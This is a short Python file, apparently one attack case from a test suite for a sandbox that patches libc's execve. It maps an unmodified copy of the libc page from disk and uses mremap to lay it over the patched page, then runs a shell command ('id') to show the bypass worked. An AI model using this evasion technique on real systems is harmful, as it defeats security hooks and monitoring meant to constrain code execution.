"""A page of ours, with the function as it was, is moved over the patched one."""

import ctypes
import os

from libc_file import address_of, errno_or, libc_path, library_of, page_of


def attack(event):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = libc.mremap.restype = ctypes.c_uint64
    at = page_of(address_of("execve"))
    offset = at - library_of(address_of("abs"))[1]
    file = os.open(libc_path(), os.O_RDONLY)
    ours = libc.mmap(None, 8192, 5, 2, file, ctypes.c_long(offset))
    said = errno_or(libc.mremap(ctypes.c_void_p(ours), 8192, 8192, 3, ctypes.c_void_p(at)))
    if said == "done":
        os.system("id >%s" % event["out"])
    return said
